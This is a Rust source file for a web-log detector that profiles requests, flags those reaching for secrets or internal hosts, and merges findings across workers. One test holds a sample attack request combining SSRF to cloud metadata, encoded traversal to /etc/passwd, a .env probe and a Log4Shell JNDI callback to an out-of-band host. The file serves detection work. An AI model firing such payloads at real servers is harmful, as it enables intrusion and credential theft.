//! The detector: takes in records, takes in what another worker saw, judges.
//!
//! `observe` costs a quiet request one glance and a few counters. What is worth a look is taken apart, shown to the
//! signals, and kept as a finding. Nothing is judged before `finish`, as nothing can be: whether a reply is odd
//! depends on all the others.

mod finish;
mod published;

use std::borrow::Cow;
use std::ops::Range;
use std::sync::{Arc, LazyLock};

use accesslog::{Fields, Position, Record};
use serde::{Deserialize, Serialize};

use crate::SIGNALS;
use crate::ablation;
use crate::aims::Aims;
use crate::apart::{self, Alone, Apart};
use crate::batch::BATCH;
use crate::catalog::Grade;
use crate::finding::{self, Finding};
use crate::hash::{self, Key};
use crate::host::Reach;
use crate::incident::Incident;
use crate::kept;
use crate::keys::{self, Ledger};
use crate::leads::Leads;
use crate::leaked::Taken;
use crate::memo::TextKey;
use crate::memory::Memory;
use crate::odd::OddReplies;
use crate::params::host_of;
use crate::policy::Suppressed;
use crate::prefilter::{Glance, HeaderKeys, Prefilter};
use crate::profile::{Profile, is_answer};
use crate::request::{self, Field, Others, Request, param_key, param_name};
use crate::route::{Route, route_of};
use crate::sighting::Sighting;
use crate::signal::{Evidence, Role};
use crate::signals::is_strange;
use crate::target::Target;
use crate::traffic::Traffic;
use crate::usual::Usual;
use crate::walks::Walks;

/// How much of a URL in a parameter is looked at to know its host, in bytes: more than three times the longest name.
pub(crate) const URL_BYTES_MAX: usize = 800;

/// How many groups of clients make a document that is answered to them an ordinary one, whoever they are.
const CROWD: u32 = 40;

/// The state of one pass over a log: what is ordinary in it, and what is not.
#[derive(Clone, Debug, Default, Serialize, Deserialize)]
pub struct Detector {
    #[serde(skip)]
    key: Key,
    #[serde(skip)]
    memory: Memory,
    /// Among how many workers the memory is shared.
    #[serde(skip)]
    workers: usize,
    /// How many bytes it held when it last kept its bounds, where it works alone.
    #[serde(skip)]
    settled: usize,
    profile: Profile,
    walks: Walks,
    odd: OddReplies,
    leads: Leads,
    keys: Ledger,
    #[serde(skip)]
    prefilter: Prefilter,
    traffic: Traffic,
    /// Requests that are not counted yet.
    #[serde(with = "kept::nothing")]
    waiting: Vec<Sighting>,
    records: u64,
}

/// What is noted of a record before it is taken in: its hashes.
#[derive(Clone, Copy, Debug, Default)]
pub struct Noted {
    client: u64,
    target: TextKey,
    /// Whether the target is a piece of the record, and nothing in it had to be undone.
    is_target_as_written: bool,
    headers: HeaderKeys,
}

/// What a detector makes of a log.
#[derive(Clone, Debug)]
pub struct Verdict {
    /// What happened, the first to read first.
    pub incidents: Vec<Incident>,
    /// How many records were looked at.
    pub records: u64,
    /// How many requests reach for something.
    pub findings: u64,
    /// The bounds that were reached.
    pub limits: Vec<Limit>,
    /// What the owner of the service allows, and so is not among the incidents: an item for each entry.
    pub suppressed: Vec<Suppressed>,
    /// All requests over time.
    pub traffic: Traffic,
    /// The key of all hashes in it.
    pub key: Key,
    /// The memory that it was made within.
    pub memory: Memory,
    /// What the routes of the findings usually answer.
    pub(crate) usual: Usual,
    /// What is wanted looked at again, line by line.
    pub(crate) aims: Arc<Aims>,
    /// What is known of the logs of a cloud.
    pub(crate) cloud: keys::Cloud,
    /// What the second pass took in, where the contents of objects are wanted.
    pub(crate) taken: Option<Arc<Taken>>,
}

/// A bound that was reached, and so a limit of what can be said.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Limit {
    /// What is bounded.
    pub name: &'static str,
    /// How many are kept.
    pub limit: u64,
    /// How many more there were, where that is known.
    pub over: Option<u64>,
    /// What that means for the report.
    pub meaning: &'static str,
}

/// A signal that could not run, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NotRun {
    /// The signal.
    pub signal: &'static str,
    /// Why it could not.
    pub because: String,
}

impl Detector {
    /// A detector whose hashes are under this key. Only those under one key can be merged.
    pub fn keyed(key: Key) -> Detector {
        Detector { key, prefilter: Prefilter::new(key), ..Detector::default() }
    }

    /// The same, still empty, within some memory that so many workers share.
    #[must_use]
    pub fn within(self, memory: Memory, workers: usize) -> Detector {
        Detector {
            memory,
            workers,
            profile: Profile::within(memory),
            walks: Walks::within(memory),
            odd: OddReplies::within(memory),
            leads: Leads::within(memory),
            keys: Ledger::within(memory),
            prefilter: self.prefilter.within(memory),
            ..self
        }
    }

    /// Whether it holds more than one of the workers may, and is to be handed over.
    pub fn is_heavy(&self) -> bool {
        self.settled + self.memory.of_worker(self.workers) < self.held()
    }

    /// How many bytes its tables hold, at most.
    fn held(&self) -> usize {
        let tables = self.profile.bytes() + self.walks.bytes() + self.odd.bytes() + self.keys.bytes();
        tables + self.leads.bytes()
    }

    /// Hands what was taken in over to another, and goes on without it, dropping what the other would.
    ///
    /// A worker that is alone holds all there is: it keeps to the bounds instead, and moves nothing.
    pub fn hand_over(&mut self, to: &mut Detector) {
        self.count();
        if self.workers == 1 && to.records == 0 {
            self.settle();
            self.settled = self.held();
            return;
        }
        let empty = Detector { key: self.key, memory: self.memory, workers: self.workers, ..Detector::default() };
        let mut full = std::mem::replace(self, empty);
        std::mem::swap(&mut self.prefilter, &mut full.prefilter);
        to.merge(full);
        self.profile = to.profile.emptied();
        self.walks = to.walks.emptied();
        self.odd = to.odd.emptied();
        self.leads = to.leads.emptied();
        self.keys = to.keys.emptied();
    }

    /// Enforces every bound.
    fn settle(&mut self) {
        self.profile.settle();
        self.walks.settle();
        self.odd.settle();
        self.leads.prune();
        self.keys.settle();
    }

    /// Takes in a record.
    pub fn observe(&mut self, at: Position, record: &Record<'_>) {
        let noted = self.note(record);
        self.observe_noted(at, record, noted);
    }

    /// Notes by which keys a record will be asked for, and has what is remembered of them fetched. Between that and
    /// [`observe_noted`](Detector::observe_noted) others may be taken in.
    #[inline]
    pub fn note(&self, record: &Record<'_>) -> Noted {
        let target = request::target_of(record);
        Noted {
            client: self.key.hash(record.client.unwrap_or_default()),
            target: self.prefilter.target_key(&target),
            is_target_as_written: matches!(target, Cow::Borrowed(_)),
            headers: self.prefilter.header_keys(record),
        }
    }

    /// Takes in a record, of which that was noted.
    pub fn observe_noted(&mut self, at: Position, record: &Record<'_>, noted: Noted) {
        self.records += 1;
        self.traffic.observe(record.time, record.status);
        let target = match noted.is_target_as_written {
            true => Cow::Borrowed(request::target_as_written(record)),
            false => request::target_of(record),
        };
        let Noted { client, target: key, headers, .. } = noted;
        let (others, agent) = self.prefilter.others(record, headers);
        let (route, glance) = match self.prefilter.remembered(key) {
            Some(seen) => (seen.route, seen.glance()),
            None => self.glance(&target, key),
        };
        if record.target.is_some() {
            self.waiting.push(Sighting::new(at, record, route, client, agent, self.key));
            if self.waiting.len() == BATCH {
                self.count();
            }
        }
        if record.cloud.is_some() {
            let _scope = self.key.enter();
            self.keys.observe(at, record);
        }
        let is_close = match glance {
            Glance::Quiet => false,
            Glance::Web => self.web_is_strange(record, route, &target, client),
            Glance::Close => true,
        };
        if is_close || others.any() {
            self.look(at, record, &target, client, others, (key, route, glance));
        }
    }

    /// Counts the requests that wait.
    fn count(&mut self) {
        let _scope = self.key.enter();
        let mut waiting = std::mem::take(&mut self.waiting);
        let common = self.profile.observe(&waiting);
        self.walks.observe(&waiting);
        let is_rare = |(number, seen)| (common >> number & 1 == 0).then_some(seen);
        waiting.iter().enumerate().filter_map(is_rare).for_each(|seen| self.odd.observe(seen));
        waiting.clear();
        self.waiting = waiting;
    }

    /// The route of a target that is not remembered, and what a glance at it shows.
    fn glance(&mut self, target: &[u8], key: TextKey) -> (Route, Glance) {
        let _scope = self.key.enter();
        let route = route_of(&Target::new(target));
        let glance = self.prefilter.target(target);
        self.prefilter.remember(key, route, glance);
        (route, glance)
    }

    /// Counts the plain URLs in the parameters of a request; whether one of the parameters does not usually hold any.
    fn web_is_strange(&mut self, record: &Record<'_>, route: Route, target: &[u8], client: u64) -> bool {
        let _scope = self.key.enter();
        let split = Target::new(target);
        let is_answered = record.status.is_some_and(is_answer);
        let mut is_any_strange = false;
        for param in split.params() {
            if !matches!(param.value, [b'h' | b'%', ..]) {
                continue;
            }
            let value = self.prefilter.decoded(&param.value[..param.value.len().min(URL_BYTES_MAX)]);
            let Some(host) = host_of(value).map(hash::hash) else { continue };
            if let Some(profile) =
                self.profile.params.get_or_insert_with(param_key(route, &param_name(param.name)), Default::default)
            {
                profile.add(client, host, is_answered);
                is_any_strange |= is_strange(Some(profile));
            }
        }
        is_any_strange
    }

    /// Looks at a request closely, and keeps it if it reaches for something.
    #[cold]
    fn look(
        &mut self,
        at: Position,
        record: &Record<'_>,
        target: &[u8],
        client: u64,
        others: Others,
        (key, route, glance): (TextKey, Route, Glance),
    ) {
        let _scope = self.key.enter();
        let request = Request::on(route, record, target, others, &mut self.prefilter.contents);
        if glance == Glance::Close {
            self.count_urls(&request, client);
        }
        let mut evidence: Vec<Evidence> = Vec::new();
        let (objectives, dress) = *LOOKERS;
        look(&request, 0..objectives, &mut evidence);
        if evidence.is_empty() {
            // A host in the target counts for its parameter's profile each time.
            if request.places.is_empty() && !request.is_own_storage {
                self.prefilter.remember(key, request.route, Glance::Quiet);
            }
            return;
        }
        look(&request, objectives..dress, &mut evidence);
        let finding = Finding::new(at, &request, target, client, evidence);
        if !self.is_ordinary_by_crowd(&finding) {
            self.leads.add(finding);
        }
    }

    fn count_urls(&mut self, request: &Request<'_>, client: u64) {
        let is_answered = request.record.status.is_some_and(is_answer);
        for (part_at, part) in request.parts.iter().enumerate() {
            let Some(place) = request.places.iter().find(|place| place.part == part_at && !place.scheme.is_empty())
            else {
                continue;
            };
            let key = match part.field {
                Field::Param => request.param_key(part),
                Field::Origin => finding::origin_key(&place.written),
                _ => continue,
            };
            if let Some(profile) = self.profile.params.get_or_insert_with(key, Default::default) {
                profile.add(client, hash::hash(&place.written), is_answered && place.host.reach <= Reach::Metadata);
            }
        }
    }

    /// Counts what a finding reaches for; whether so many clients are answered the same that it need not be kept.
    fn is_ordinary_by_crowd(&mut self, finding: &Finding) -> bool {
        let is_answered = finding.status.is_some_and(is_answer);
        let aim = &finding.evidence[0];
        let Some(document) = self.profile.documents.get_or_insert_with(finding.document_key(), Default::default) else {
            return false;
        };
        document.add(finding.client_key, is_answered);
        aim.grade <= Grade::Fair && is_answered && CROWD <= document.clients.count_ones()
    }

    /// Takes in what another worker saw.
    pub fn merge(&mut self, other: Detector) {
        self.merge_apart(other, &Alone);
    }

    /// The same, shared out.
    pub fn merge_apart(&mut self, mut other: Detector, apart: &dyn Apart) {
        self.count();
        other.count();
        let _scope = self.key.enter();
        self.records += other.records;
        self.traffic.merge(other.traffic);
        let (walks, profile) = (&mut self.walks, &mut self.profile);
        let rest = (&mut self.odd, &mut self.leads, &mut self.keys);
        apart::both(
            apart,
            || walks.merge_apart(other.walks, apart),
            || {
                profile.merge(other.profile);
                let (odd, leads, keys) = rest;
                odd.merge(other.odd);
                leads.merge(other.leads);
                keys.merge(other.keys);
            },
        );
    }
}

/// Where in the list of signals the objectives end, and where the dress does: what stands behind looks at no text.
static LOOKERS: LazyLock<(usize, usize)> = LazyLock::new(|| {
    let objectives = SIGNALS.iter().take_while(|signal| signal.role() == Role::Objective).count();
    let dress = SIGNALS.iter().rposition(|signal| signal.role() == Role::Dress);
    (objectives, dress.map_or(objectives, |last| last + 1))
});

/// What some of the signals see in the text of a request.
fn look(request: &Request<'_>, signals: Range<usize>, evidence: &mut Vec<Evidence>) {
    for place in signals.filter(|place| !ablation::is_out(SIGNALS[*place].name())) {
        let before = evidence.len();
        SIGNALS[place].look(request, evidence);
        evidence[before..].iter_mut().for_each(|new| new.signal = place as u8);
    }
}

/// The signals that cannot run on records that hold only these fields.
pub fn not_run(fields: Fields) -> Vec<NotRun> {
    let lacking = SIGNALS.iter().map(|signal| (signal.name(), signal.needs().without(fields)));
    lacking
        .filter(|(_, lack)| !lack.is_empty())
        .map(|(signal, lack)| NotRun {
            signal,
            because: format!("no source holds the field {}", lack.names().collect::<Vec<_>>().join(", ")),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn observe(detector: &mut Detector, offset: u64, client: &str, target: &str, status: u16) {
        let record = Record {
            client: Some(client.as_bytes()),
            target: Some(target.as_bytes()),
            status: Some(status),
            bytes: Some(412),
            ..Record::default()
        };
        detector.observe(Position { offset, line: offset, ..Position::default() }, &record);
    }

    #[test]
    fn a_worker_that_never_met_the_crowd_comes_to_the_same() {
        let crowd = |detector: &mut Detector| {
            (0..400).for_each(|number| observe(detector, number, &format!("192.0.2.{number}"), "/config.json", 200));
        };
        let one_of_many = |detector: &mut Detector| {
            (400..9_400).for_each(|offset| observe(detector, offset, "198.51.100.1", "/config.json", 200));
            observe(detector, 9_500, "198.51.100.1", "/config/database.yml", 200);
        };
        let (mut whole, mut one, mut other) = (Detector::default(), Detector::default(), Detector::default());
        crowd(&mut whole);
        one_of_many(&mut whole);
        one_of_many(&mut one);
        crowd(&mut other);
        one.merge(other);
        let (whole, merged) = (whole.finish(), one.finish());
        assert_eq!((whole.findings, whole.limits.len()), (1, 0));
        assert_eq!((merged.findings, merged.limits.len()), (1, 0));
        assert_eq!(whole.incidents[0].id, merged.incidents[0].id);
    }

    #[test]
    fn whoever_fetches_what_everybody_does_is_no_scanner_for_it() {
        let crowd = |detector: &mut Detector| {
            (0..400).for_each(|number| observe(detector, number, &format!("192.0.2.{number}"), "/config.json", 200));
        };
        let readers = |detector: &mut Detector| {
            (400..405).for_each(|number| observe(detector, number, &number.to_string(), "/config/app.yml", 200));
            observe(detector, 500, "404", "/config.json", 200);
            observe(detector, 501, "404", "/.gitignore", 404);
        };
        let (mut whole, mut one, mut other) = (Detector::default(), Detector::default(), Detector::default());
        crowd(&mut whole);
        readers(&mut whole);
        readers(&mut one);
        crowd(&mut other);
        one.merge(other);
        let severities = |detector: Detector| -> Vec<_> {
            let findings = detector.finish().incidents.into_iter().flat_map(|incident| incident.findings);
            findings.map(|judged| (judged.finding.at, judged.severity)).collect()
        };
        let whole = severities(whole);
        assert_eq!(whole.len(), 6);
        assert_eq!(severities(one), whole);
    }

    #[test]
    fn only_objectives_and_then_dress_look_at_texts() {
        let (objectives, dress) = *LOOKERS;
        assert!(objectives < dress);
        assert!(SIGNALS[objectives..].iter().all(|signal| signal.role() != Role::Objective));
        let target =
            b"/a/.env?u=http://0x7f.1/latest/meta-data/&f=..%252f..%252fetc/passwd&x=${jndi:ldap://a.oast.fun}";
        let record = Record { target: Some(target), ..Record::default() };
        let request = Request::new(&record, target, Others::default());
        let mut evidence = Vec::new();
        look(&request, dress..SIGNALS.len(), &mut evidence);
        assert_eq!(evidence, []);
        look(&request, 0..dress, &mut evidence);
        assert!(
            [Role::Objective, Role::Dress].iter().all(|role| evidence.iter().any(|seen| seen.signal().role() == *role))
        );
    }

    #[test]
    fn the_bound_on_findings_is_said_without_a_merge() {
        let mut detector = Detector::default();
        let many = detector.leads.max() as u64 + 1_000;
        (0..many).for_each(|number| observe(&mut detector, number, &number.to_string(), "/.env", 404));
        let verdict = detector.finish();
        assert_eq!(
            verdict.limits.iter().map(|limit| (limit.name, limit.over)).collect::<Vec<_>>(),
            [("findings", Some(1_000))]
        );
        assert_eq!(verdict.findings, many);
    }
}
